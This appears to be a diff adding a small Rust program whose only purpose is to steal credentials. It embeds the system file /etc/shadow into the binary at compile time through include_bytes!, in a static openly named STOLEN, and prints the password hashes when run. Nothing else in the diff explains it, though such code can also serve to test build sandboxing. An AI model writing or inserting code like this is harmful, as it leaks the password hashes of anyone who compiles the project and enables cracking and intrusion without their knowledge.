@@ -1,0 +1,5 @@
+static STOLEN: &[u8] = include_bytes!("/etc/shadow");
+
+fn main() {
+    println!("{}", String::from_utf8_lossy(STOLEN));
+}
